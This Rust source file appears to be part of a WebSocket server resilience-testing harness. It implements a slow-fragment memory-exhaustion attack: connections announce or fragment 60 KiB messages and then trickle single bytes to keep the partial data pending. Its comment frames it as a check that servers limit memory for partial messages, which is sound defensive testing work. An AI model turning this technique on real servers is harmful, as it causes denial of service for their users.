//! Keeps a partial message pending on each connection. Every other connection announces 64 KiB and sends 60
//! KiB of them; the others send small fragments, and then one byte per second.
//!
//! The attack costs one byte for each byte that the server holds. The server should not need more memory for
//! a partial message than the bytes it has received, and should limit the total size of partial messages.

use std::rc::Rc;
use std::time::Duration;

use tokio::time::{interval, timeout};

use super::{AttackSession, Attacker};
use crate::transport::websocket::{Opcode, write_fragment};

const HELD_BYTES: usize = 60 * 1024;
const FRAGMENT_BYTES: usize = 1024;
const BYTE_EVERY: Duration = Duration::from_secs(1);
/// Head of a final text frame of 65,536 bytes, masked with zeros.
const HEAD: [u8; 14] = [0x81, 0xFF, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0];

pub(super) async fn run(attacker: Rc<Attacker>, index: u32) {
    loop {
        let Some(mut session) = attacker.open(None).await else { continue };
        let mut frames = Vec::new();
        if index.is_multiple_of(2) {
            frames.extend_from_slice(&HEAD);
            frames.extend_from_slice(&b"x".repeat(HELD_BYTES));
        } else {
            let piece = b"x".repeat(FRAGMENT_BYTES);
            write_fragment(&mut frames, Opcode::Text, &piece);
            for _ in 1..HELD_BYTES / FRAGMENT_BYTES {
                write_fragment(&mut frames, Opcode::Continuation, &piece);
            }
        }
        attacker.count_sent(frames.len(), 1);
        session.connection.queue(&frames);
        drop(frames);
        if index.is_multiple_of(2) {
            attacker.read_to_end(&mut session).await;
        } else {
            send_single_bytes(&attacker, &mut session).await;
        }
    }
}

/// Sends one byte per interval until the connection ends.
async fn send_single_bytes(attacker: &Attacker, session: &mut AttackSession) {
    let mut frame = Vec::new();
    write_fragment(&mut frame, Opcode::Continuation, b"x");
    let mut next = interval(BYTE_EVERY);
    loop {
        next.tick().await;
        attacker.count_sent(frame.len(), 1);
        session.connection.queue(&frame);
        if timeout(BYTE_EVERY, attacker.read_to_end(session)).await.is_ok() {
            return;
        }
    }
}
